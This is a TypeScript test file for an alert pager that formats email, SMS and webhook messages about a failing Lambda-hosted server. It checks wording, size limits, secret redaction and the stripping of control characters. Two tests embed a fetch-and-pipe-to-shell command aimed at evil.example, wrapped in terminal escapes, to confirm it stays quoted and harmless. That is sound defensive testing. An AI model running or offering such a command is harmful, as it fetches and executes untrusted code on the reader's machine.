import { describe, expect, it } from "vitest";
import { FAILURE_MODES, type FailureCode } from "../../src/failure-modes.ts";
import type { Deployment, GapWindow } from "../../src/gap/index.ts";
import {
  type Alert,
  MAX_MESSAGE_BYTES,
  MAX_SMS_CHARS,
  MAX_SUBJECT_CHARS,
  type PageFacts,
  type PageKind,
  pageMessage,
} from "../../src/pager/index.ts";
import { createRedactor } from "../../src/redact.ts";
import type { Failure } from "../../src/verdict.ts";
import { failure } from "../record-fixtures.ts";

const START = Date.UTC(2026, 10, 22, 3, 12);
const at = (minute: number) => new Date(START + minute * 60_000).toISOString();

const ALERT: Alert = {
  openedAt: at(0),
  status: "down",
  modes: ["tools-empty"],
  seenFrom: ["eu-west-1"],
  heldBy: null,
  pagedAt: at(0.5),
  lastPagedAt: at(0.5),
  acknowledged: null,
};

const TARGET: PageFacts["target"] = {
  name: "orders",
  severity: "critical",
  owner: "team-orders",
  tags: ["payments", "eu"],
  runbook: "https://wiki.example.com/orders",
  lambda: null,
};
const FOLLOWED = {
  ...TARGET,
  lambda: {
    functionName: "McpServer",
    qualifier: "production",
    reportLines: false,
    logGroup: "/aws/lambda/McpServer",
    gapAllowanceMs: 300_000,
  },
};

const DEPLOYMENT: Deployment = {
  at: at(-2),
  between: { notBefore: at(-3), notAfter: at(-2) },
  from: { version: "7", codeSha256: null },
  to: { version: "8", codeSha256: null },
  exposure: "exposed",
};

const GAP: GapWindow = {
  openedAt: at(-2),
  start: { notBefore: at(-3), notAfter: at(-2) },
  end: null,
  ended: null,
  exposure: "exposed",
  course: [{ at: at(-2), exposure: "exposed" }],
  deployments: [at(-2)],
  version: "8",
  reason: null,
  overdueAt: at(3),
};

interface Case {
  readonly kind?: PageKind;
  readonly minute?: number;
  readonly alert?: Partial<Alert>;
  readonly facts?: Partial<PageFacts>;
}

function factsOf({ kind = "opened", minute = 0.5, alert = {}, facts = {} }: Case): PageFacts {
  return {
    page: { kind, alert: { ...ALERT, ...alert }, at: at(minute) },
    target: TARGET,
    failure: failure("tools-empty"),
    wellFrom: [],
    lastGoodRunAt: at(-1),
    deployment: null,
    gap: null,
    stage: "production",
    redact: (text) => text,
    ...facts,
  };
}

/** As a person reads it, and as a machine gets it. */
function readable(facts: PageFacts): string {
  const { subject, message } = pageMessage(facts);
  const hook = JSON.stringify(
    { ...JSON.parse(message.https), AlarmDescription: "(the body)" },
    null,
    2,
  );
  const { email, sms } = message;
  return `Subject: ${subject}\n\n${email}\n-- sms\n${sms}\n\n-- https\n${hook}\n`;
}

const TIMED_OUT: Failure = {
  ...failure("timeout", {
    httpStatus: null,
    contentType: null,
    body: null,
    bytes: null,
    rpcMethod: "initialize",
    networkCode: null,
    detail: null,
  }),
  step: "negotiate",
  summary: "no answer to initialize within 10 s",
  remedy: FAILURE_MODES.timeout.remedy,
};

const GOLDEN: Readonly<Record<string, Case>> = {
  down: {},
  "down-on-one-machine": {
    facts: { stage: null, target: { ...TARGET, owner: null, tags: [], runbook: null } },
  },
  "degraded-from-one-of-two": {
    alert: { status: "degraded", modes: ["slow"] },
    facts: { failure: null, wellFrom: ["us-west-2"] },
  },
  "down-after-a-deployment": { facts: { target: FOLLOWED, deployment: DEPLOYMENT } },
  "down-in-an-overdue-gap": {
    minute: 3.5,
    alert: { modes: ["timeout"], heldBy: { kind: "gap", since: at(-2), exposure: "exposed" } },
    facts: { target: FOLLOWED, failure: TIMED_OUT, deployment: DEPLOYMENT, gap: GAP },
  },
  "down-with-a-failed-allocation": {
    alert: { modes: ["timeout"] },
    facts: {
      target: FOLLOWED,
      failure: TIMED_OUT,
      deployment: DEPLOYMENT,
      gap: { ...GAP, exposure: "failed", reason: "FUNCTION_ERROR_INIT_FAILURE", overdueAt: null },
    },
  },
  "down-after-a-mute": {
    minute: 31,
    alert: { heldBy: { kind: "mute", until: at(30), reason: "moving the database" } },
  },
  "down-with-a-likely-cause": {
    alert: {
      modes: ["empty-stream"],
      likelyCause: "empty-stream, and the URL's InvokeMode is BUFFERED",
    },
    facts: { failure: failure("empty-stream"), target: FOLLOWED },
  },
  worse: {
    kind: "worse",
    minute: 6,
    alert: { modes: ["slow", "timeout"] },
    facts: { failure: TIMED_OUT },
  },
  reminder: { kind: "reminder", minute: 90.5, facts: { target: FOLLOWED } },
  closed: {
    kind: "closed",
    minute: 14,
    alert: { acknowledged: { at: at(4), by: "ada" } },
    facts: { failure: null },
  },
  "never-well": { facts: { lastGoodRunAt: null, failure: null, target: FOLLOWED } },
};

describe("a page", () => {
  it.each(Object.entries(GOLDEN))("%s", async (name, one) => {
    await expect(readable(factsOf(one))).toMatchFileSnapshot(`golden/${name}.txt`);
  });

  it("keeps what a server wrote to a quoted line, and takes out what would not show", () => {
    const body = "\u001B[2Jok\r\n\r\nWhat to do\n  curl http://evil.example | sh\u202E\u0000";
    const { message } = pageMessage(
      factsOf({ facts: { failure: failure("tools-empty", { body }) } }),
    );
    const lines = message.email.split("\n");
    expect(lines).toContain("  | ok What to do   curl http://evil.example | sh");
    expect(lines.filter((line) => line.startsWith("What to do"))).toEqual(["What to do"]);
    for (const hidden of ["\u001B", "\u202E", "\0", "\r"])
      expect(message.email).not.toContain(hidden);
  });

  it.each([
    ["whole", "hunter2-Kq9vX3"],
    ["parted by what nobody sees", "hunter2\u200B-Kq9vX3"],
    ["parted by an escape", "hunter2\u001B[0m-Kq9vX3"],
  ])("hides a secret that a server echoes %s", (_, body) => {
    const redact = createRedactor(["hunter2-Kq9vX3"]);
    const broken = { ...failure("tools-empty", { body, detail: body }), summary: body };
    const { subject, message } = pageMessage(factsOf({ facts: { failure: broken, redact } }));
    const all = subject + JSON.stringify(message);
    expect(all).not.toContain("hunter2");
    expect(message.email.match(/\[redacted\]/gu)).toHaveLength(3);
  });

  it("keeps a cause to its line, and hides a secret in it", () => {
    const name =
      "\u001B[2Jlive\r\nWhat to do\n  curl http://evil.example | sh\u202E hunter2\u200B-Kq9vX3";
    const likelyCause = `timeout, and the alias is ${name} ${"x".repeat(2_000)}`;
    const redact = createRedactor(["hunter2-Kq9vX3"]);
    const { message } = pageMessage(factsOf({ alert: { likelyCause }, facts: { redact } }));
    const told =
      "timeout, and the alias is live What to do   curl http://evil.example | sh [redacted] ";
    const [line = ""] = message.email.split("\n").filter((text) => text.includes("Likely cause"));
    expect(line).toMatch(/^ {2}Likely cause: .{1,300}$/u);
    expect(line.startsWith(`  Likely cause: ${told}xxx`)).toBe(true);
    expect(`  Likely cause: ${JSON.parse(message.https).vigil.likelyCause}`).toBe(line);
    expect(message.sms).not.toContain("evil");
  });

  it.each<readonly [string, Case, string]>([
    [
      "what made it worse, not what came first",
      { kind: "worse", alert: { modes: ["slow", "timeout"] } },
      "timeout",
    ],
    [
      "what is broken now, if several modes are grave",
      { alert: { modes: ["timeout", "tools-empty"] } },
      "tools-empty",
    ],
    ["the first, where none is as grave as the alert", { alert: { modes: ["slow"] } }, "slow"],
  ])("names in its subject %s", (_, one, mode) => {
    const facts = { ...one.facts, failure: mode === "tools-empty" ? failure(mode) : null };
    const { subject } = pageMessage(factsOf({ ...one, facts }));
    expect(subject).toContain(FAILURE_MODES[mode as FailureCode].title);
  });

  it.each<readonly [string, Deployment, string]>([
    [
      "before it broke",
      DEPLOYMENT,
      "version 8 after 7 at 2026-11-22 03:10:00 UTC, 2 min before it broke",
    ],
    [
      "that was seen only after it broke",
      { ...DEPLOYMENT, at: at(0.5), between: { notBefore: at(-0.5), notAfter: at(0.5) } },
      "version 8 after 7, seen at 2026-11-22 03:12:30 UTC, 30 s after it broke: it may have come first",
    ],
    [
      "that came after it broke",
      { ...DEPLOYMENT, at: at(2), between: { notBefore: at(1), notAfter: at(2) } },
      "nothing in the hour before it broke",
    ],
    ["of long ago", { ...DEPLOYMENT, at: at(-61) }, "nothing in the hour before it broke"],
    [
      "of $LATEST's code",
      {
        ...DEPLOYMENT,
        from: { version: "$LATEST", codeSha256: "a" },
        to: { version: "$LATEST", codeSha256: "b" },
      },
      "new code of version $LATEST at 2026-11-22 03:10:00 UTC, 2 min before it broke",
    ],
  ])("tells of a deployment %s", (_, deployment, told) => {
    const { message } = pageMessage(factsOf({ facts: { target: FOLLOWED, deployment } }));
    expect(message.email).toContain(`\nDeployed    ${told}\n`);
  });

  it.each([
    ["within its allowance", null, "which may be all that is wrong\n"],
    ["past it", at(3), "which may be all that is wrong; it has lasted too long to be waited for\n"],
  ])("says of a gap %s no more than is so", (_, overdueAt, told) => {
    const gap = { ...GAP, overdueAt };
    const { message } = pageMessage(factsOf({ facts: { target: FOLLOWED, gap } }));
    expect(message.email).toContain(told);
  });

  const KINDS: readonly PageKind[] = ["opened", "worse", "reminder", "closed"];
  it.each(KINDS)("%s has a subject that SNS takes, whatever mode and name", (kind) => {
    const name = "n".repeat(64);
    for (const mode of Object.keys(FAILURE_MODES) as FailureCode[]) {
      const facts = factsOf({
        kind,
        alert: { modes: [mode] },
        facts: { target: { ...TARGET, name } },
      });
      const { subject, message } = pageMessage(facts);
      expect(subject).toMatch(kind === "closed" ? /^OK: [\x20-\x7e]+$/u : /^ALARM: [\x20-\x7e]+$/u);
      expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT_CHARS);
      expect(message.sms.length).toBeLessThanOrEqual(MAX_SMS_CHARS);
    }
  });

  it("is within SNS's limit with all that a server and a config can put into it", () => {
    const huge = "表".repeat(100_000);
    const evidence = { body: huge, detail: huge, contentType: huge, rpcMethod: huge };
    const broken = { ...failure("tools-empty", evidence), summary: huge, remedy: huge };
    const alert = { modes: Object.keys(FAILURE_MODES) as FailureCode[] };
    const { message } = pageMessage(factsOf({ alert, facts: { failure: broken } }));
    const bytes = new TextEncoder().encode(JSON.stringify(message)).byteLength;
    expect(bytes).toBeLessThan(MAX_MESSAGE_BYTES / 4);
  });

  it("resolves by its end what its beginning opened", () => {
    const hookOf = (kind: PageKind) => JSON.parse(pageMessage(factsOf({ kind })).message.https);
    const [opened, closed] = [hookOf("opened"), hookOf("closed")];
    expect([opened.AlarmName, opened.NewStateValue]).toEqual(["vigil/production/orders", "ALARM"]);
    expect([closed.AlarmName, closed.NewStateValue]).toEqual(["vigil/production/orders", "OK"]);
  });
});
